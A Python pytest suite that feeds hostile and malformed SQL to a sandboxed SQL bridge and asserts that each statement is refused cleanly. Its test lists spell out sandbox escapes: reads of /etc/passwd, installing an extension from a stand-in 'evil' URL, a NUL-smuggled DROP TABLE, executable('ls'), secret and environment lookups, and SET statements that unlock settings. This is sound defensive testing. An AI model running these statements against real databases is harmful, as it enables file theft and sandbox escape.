"""Hostile and malformed SQL through ``sqlbridge.connect``: a clear error every time, never a
Python exception leaking, and the session keeps answering after each.

The corpus: huge and deeply nested statements, odd Unicode, NUL bytes, invalid UTF-8 (bytes
decoded with ``surrogateescape``, lone surrogates), and every way out of the sandbox we could
think of (COPY, ATTACH, INSTALL, LOAD, SET, PRAGMA and their variants).  Then, enumerated from
DuckDB itself, every table function called with a file path and without arguments, and every
setting SET, SET GLOBAL and RESET.  Statements that are merely odd but valid may succeed; none
may read a file, change a setting or leave the session broken.
"""

from __future__ import annotations

import re

import duckdb
import pytest

from sqlbridge.errors import QueryError

GOOD = "SELECT count() AS n FROM system.asynchronous_loader"
GOOD_ROWS = 7  # sqlbridge.testing.sample_jobs()
SECRET_FILE = "/etc/passwd"
SECRET_MARK = "root:"

#: Words that would mean a Python exception's text reached the user unwrapped.
LEAKS = ("Traceback", "RecursionError", "UnicodeEncodeError", "UnicodeDecodeError", "KeyError",
         "AttributeError", "TypeError", "IndexError", "AssertionError", "NoneType",
         "incompatible function arguments", "sqlglot.errors", "_duckdb.", "object at 0x")

_deep = 5000
MUST_FAIL = [
    # huge and deep
    "SELECT " + "(" * _deep + "1" + ")" * _deep,
    "SELECT " + "+".join(["1"] * 5000),
    "SELECT " + "abs(" * 3000 + "1" + ")" * 3000,
    "SELECT " + "[" * 3000 + "1" + "]" * 3000,
    "SELECT " + " OR ".join(["1 = 1"] * 12_000),
    "SELECT " + "-" * 20_000 + "1",
    "SELECT " + "NOT " * 20_000 + "1",
    "SELECT * FROM " + "(SELECT * FROM " * 2000 + "system.asynchronous_loader" + ")" * 2000,
    "SELECT " + "CASE WHEN 1 THEN " * 3000 + "1" + " END" * 3000,
    "SELECT 1 " + "UNION ALL SELECT 1 " * 1500,
    # malformed
    "SELEC 1", "SELECT FROM", "SELECT (", "SELECT )", "SELECT '", 'SELECT "', "SELECT 1 FROM",
    ";;;", "", "   ", "--", "/*", "SELECT 1 /* unclosed", "SELECT * FROM system.",
    "SELECT * FROM system.nope", "SELECT nope_function(1)", "SELECT 1 +", "SELECT ,",
    "SELECT 1 LIMIT 'a'", "SELECT 1 FORMAT NoSuchFormat", "SELECT 1; SELECT 2",
    "SELECT {x:UInt8}", "SELECT 1 SETTINGS max_execution_time = 'abc'",
    "SELECT 1 SETTINGS result_overflow_mode = 'weird'", "SELECT CAST(1 AS NoSuchType)",
    "SELECT * FROM system.asynchronous_loader WHERE",
    "SELECT * FROM system.asynchronous_loader GROUP BY", "SELECT job FROM",
    "SELECT * FROM system.asynchronous_loader AS a JOIN",
    "SELECT 1 ORDER BY", "WITH x AS SELECT 1", "SELECT 'a' || ", "SELECT [1, 2",
    "SELECT sum(", "SELECT 1 \\G \\G", "SELECT 1)", "SELECT * FROM (SELECT 1",
    # NUL bytes hiding a second statement or splitting a keyword
    "SEL\x00ECT 1", "\x00", "SELECT 1 \x00; DROP TABLE asl_system.tables",
    # sandbox: writes and files
    "COPY system.asynchronous_loader TO '/tmp/asl-hostile.csv'",
    "COPY (SELECT 1) TO '/dev/stdout'",
    f"COPY asl_system.tables FROM '{SECRET_FILE}'",
    "COPY (SELECT 1) TO 's3://bucket/x.parquet'",
    "COPY (SELECT 1) TO '/tmp/asl-hostile.parquet' (FORMAT parquet)",
    "EXPORT DATABASE '/tmp/asl-hostile-export' (FORMAT csv)",
    "IMPORT DATABASE '/tmp/asl-hostile-export'",
    "ATTACH '/tmp/asl-hostile.db'", "ATTACH DATABASE ':memory:' AS m",
    "ATTACH 'sqlite:/tmp/asl-hostile.sqlite' AS s (TYPE sqlite)",
    "ATTACH OR REPLACE ':memory:' AS memory", "ATTACH IF NOT EXISTS ':memory:' AS z",
    "DETACH DATABASE memory", "USE memory",
    "INSTALL 'httpfs'", "INSTALL httpfs FROM community", "FORCE INSTALL httpfs",
    "LOAD '/tmp/evil.duckdb_extension'", "LOAD json",
    "INSTALL 'https://example.com/evil.duckdb_extension'",
    # sandbox: settings
    "SET GLOBAL lock_configuration = false", "SET lock_configuration = false",
    "SET SESSION enable_external_access = true", "RESET ALL", "RESET lock_configuration",
    "SET allowed_directories = ['/']", "SET file_search_path = '/etc'",
    "SET memory_limit = '1TB'", "SET threads TO 64", "SET temp_directory = '/tmp'",
    "SET custom_extension_repository = 'http://example.com'",
    "SET allow_unsigned_extensions = true", "SET LOCAL threads = 1",
    "SET VARIABLE path = '/etc/passwd'",
    "SELECT 1 SETTINGS enable_external_access = 1",
    # sandbox: pragmas
    "PRAGMA enable_profiling", "PRAGMA threads = 1", "PRAGMA show_tables",
    "PRAGMA table_info('asl_system.tables')", "PRAGMA memory_limit = '1GB'",
    "PRAGMA import_database('/tmp')", "PRAGMA enable_checkpoint_on_shutdown",
    "PRAGMA disable_optimizer", "CALL pragma_version()",
    # sandbox: functions that read files or run SQL text, however they are spelled
    f"SELECT * FROM read_csv_auto('{SECRET_FILE}')", f"SELECT * FROM '{SECRET_FILE}'",
    f"FROM '{SECRET_FILE}'", f"SELECT * FROM read_json('{SECRET_FILE}')",
    f'SELECT * FROM "read_csv"(\'{SECRET_FILE}\')', f"SELECT * FROM READ_CSV('{SECRET_FILE}')",
    f"SELECT * FROM main.read_csv('{SECRET_FILE}')",
    f"SELECT * FROM system.main.read_text('{SECRET_FILE}')",
    f"SELECT (SELECT content FROM read_text('{SECRET_FILE}'))",
    f"SELECT * FROM (FROM read_text('{SECRET_FILE}'))",
    f"SELECT * FROM read_text(['{SECRET_FILE}'])",
    "SELECT * FROM read_text('/etc/pass' || 'wd')",
    "SELECT * FROM query('SEL' || 'ECT 1')", "SELECT * FROM glob('*')",
    f"SELECT * FROM url('file://{SECRET_FILE}', CSV)", f"SELECT * FROM file('{SECRET_FILE}')",
    "SELECT * FROM s3('http://example.com/x.csv')",
    "SELECT * FROM remote('localhost', system.one)",
    "SELECT * FROM executable('ls', TSV, 'x String')",
    f"DESCRIBE SELECT * FROM read_text('{SECRET_FILE}')",
    f"SUMMARIZE SELECT * FROM read_text('{SECRET_FILE}')",
    "FROM duckdb_secrets()", "SELECT getenv('HOME')",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "WITH t AS (DELETE FROM asl_system.tables RETURNING *) SELECT * FROM t",
    "CREATE TEMP TABLE x AS SELECT 1", "CREATE OR REPLACE VIEW x AS SELECT 1",
    "DROP VIEW asl_system.asynchronous_loader",
    "INSERT INTO asl_system.tables SELECT * FROM asl_system.tables",
    "EXPLAIN ANALYZE SELECT 1", "CHECKPOINT", "BEGIN", "ROLLBACK",
]

#: Odd but valid: they may answer, or refuse clearly.
MAY_ANSWER = [
    "SELECT '🙂' AS smile", "SELECT 'a\u202eb' AS rtl", 'SELECT 1 AS "\u200b"',
    "SELECT '\ufeff' AS bom", "\ufeffSELECT 1", "SELECT\u00a01", "SELECT 'é' = 'é'",
    "SELECT '\U0010ffff'", "SELECT 1 -- \u2028 comment", "SELECT 'x' AS \"\u0000\"",
    "SELECT '\x00'", "SELECT 1\x00", "\x00SELECT 1", "SELECT 1 -- \x00\n",
    "SELECT length('" + "x" * 2_000_000 + "') AS n",
    "SELECT 1 AS " + "a" * 100_000,
    " " * 2_000_000 + "SELECT 1",
    "SELECT 1 WHERE 1 IN (" + ",".join(map(str, range(5000))) + ")",
    "SELECT " + ", ".join(f"{i} AS c{i}" for i in range(3000)),
    "WITH " + ", ".join(f"t{i} AS (SELECT {i} AS v)" for i in range(300)) + " SELECT 1",
    "SELECT * FROM " + "(SELECT * FROM " * 20 + "system.asynchronous_loader" + ")" * 20,
    "SELECT 1/0", "SELECT 1 LIMIT -1", "SELECT toDateTime('garbage')", "SELECT arrayJoin(1)",
    "SELECT current_setting('lock_configuration')", "SELECT count() FROM duckdb_settings()",
    "SELECT count() FROM numbers(10)", "SELECT 1 SETTINGS max_threads = 1",
    "SELECT * FROM system.asynchronous_loader FORMAT Vertical LIMIT 1",
    # ClickHouse says SYNTAX_ERROR to these two; the clickhouse dialect answers them (an alias
    # named FORMAT, an empty alias): harmless, noted for the translator's owner.
    "SELECT 1 FORMAT", "SELECT 1 AS",
]

#: Raw bytes that are not UTF-8, as a bytes -> str round trip with surrogateescape leaves them.
INVALID_UTF8 = [
    b"SELECT '\xff'", b"SELECT 1 AS \xc3\x28", b"\xfe\xffSELECT 1", b"SELECT '\xed\xa0\x80'",
    b"SELECT * FROM system.asynchronous_loader WHERE job = '\x80\x81'",
]


def outcome(session, sql: str, answers: list | None = None) -> QueryError | None:
    """Run ``sql``; return its error (a clear one, checked here) or None if it answered (the
    answer rendered as TSV goes to ``answers``)."""
    try:
        if answers is None:
            session.query(sql)
        else:
            answers.append(session.run(sql, "TabSeparated"))
    except QueryError as error:
        text = str(error)
        assert type(error).__module__.startswith("sqlbridge"), type(error)
        assert isinstance(error.code, int) and error.code > 0
        assert re.match(rf"Code: {error.code}\. DB::Exception: \S", text), text[:300]
        assert len(text) < 20_000, "the error repeats the whole statement"
        for leak in LEAKS:
            assert leak not in text, f"{leak!r} leaked: {text[:500]}"
        return error
    except Exception as error:  # noqa: BLE001 - the failure this test exists to catch
        pytest.fail(f"{type(error).__name__} escaped for {sql[:200]!r}: {error!r:.500}")
    return None


def still_usable(session) -> None:
    assert session.query(GOOD).column("n").to_pylist() == [GOOD_ROWS]


@pytest.mark.parametrize("sql", MUST_FAIL, ids=lambda s: repr(s[:40]))
@pytest.mark.parametrize("dialect", ["clickhouse", "duckdb"])
def test_hostile_statement_gets_a_clear_error(request, dialect, sql):
    session = request.getfixturevalue("db" if dialect == "clickhouse" else "duck")
    assert outcome(session, sql) is not None, f"{sql[:200]!r} ran"
    still_usable(session)


@pytest.mark.parametrize("sql", MAY_ANSWER, ids=lambda s: repr(s[:40]))
@pytest.mark.parametrize("dialect", ["clickhouse", "duckdb"])
def test_odd_statement_answers_or_refuses_clearly(request, dialect, sql):
    session = request.getfixturevalue("db" if dialect == "clickhouse" else "duck")
    outcome(session, sql)
    still_usable(session)


@pytest.mark.parametrize("raw", INVALID_UTF8, ids=repr)
def test_invalid_utf8_gets_a_clear_error(db, raw):
    sql = raw.decode("utf-8", "surrogateescape")
    error = outcome(db, sql)
    assert error is not None and "UTF-8" in error.message
    lone = "SELECT '\ud800'"
    assert outcome(db, lone) is not None
    still_usable(db)


def _duckdb_names(sql: str) -> list[str]:
    with duckdb.connect() as con:
        return [row[0] for row in con.execute(sql).fetchall()]


def test_every_table_function_is_refused_or_harmless(duck, db):
    """Each of DuckDB's table functions, with a file path and without arguments: refused, or
    an answer that holds no file's content."""
    functions = _duckdb_names("SELECT DISTINCT function_name FROM duckdb_functions() "
                              "WHERE function_type = 'table' ORDER BY 1")
    assert len(functions) > 50
    answered = []
    for name in functions:
        for call in (f"{name}('{SECRET_FILE}')", f"{name}()", f"{name}('*', '*')"):
            for session in (duck, db):
                sql = f"SELECT * FROM {call} LIMIT 3"
                text: list = []
                if outcome(session, sql, text) is None:
                    assert SECRET_MARK not in str(text), f"{sql} read {SECRET_FILE}"
                    answered.append(call)
        still_usable(duck)
    for name in ("read_text", "read_csv", "read_blob", "glob", "query", "read_parquet"):
        assert f"{name}('{SECRET_FILE}')" not in answered


def test_every_setting_is_locked(duck, db):
    """SET, SET GLOBAL and RESET of every DuckDB setting are refused in both dialects, and
    the sandbox's own settings keep their values."""
    settings = _duckdb_names("SELECT name FROM duckdb_settings() ORDER BY 1")
    assert len(settings) > 50
    for name in settings:
        for sql in (f"SET {name} = 1", f"SET GLOBAL {name} = 'x'", f"RESET {name}",
                    f"SET SESSION {name} TO DEFAULT"):
            for session in (duck, db):
                assert outcome(session, sql) is not None, f"{sql} ran"
        for sql in (f"SELECT 1 SETTINGS {name} = 1",):
            outcome(db, sql)
    locked = duck.query("SELECT current_setting('enable_external_access') AS a, "
                        "current_setting('lock_configuration') AS b").to_pylist()
    assert locked == [{"a": False, "b": True}]
    still_usable(db)
    still_usable(duck)


def test_corpus_size():
    """The issue asks for at least 90 statements here (plus the HTTP half elsewhere)."""
    assert len(MUST_FAIL) + len(MAY_ANSWER) + len(INVALID_UTF8) >= 90
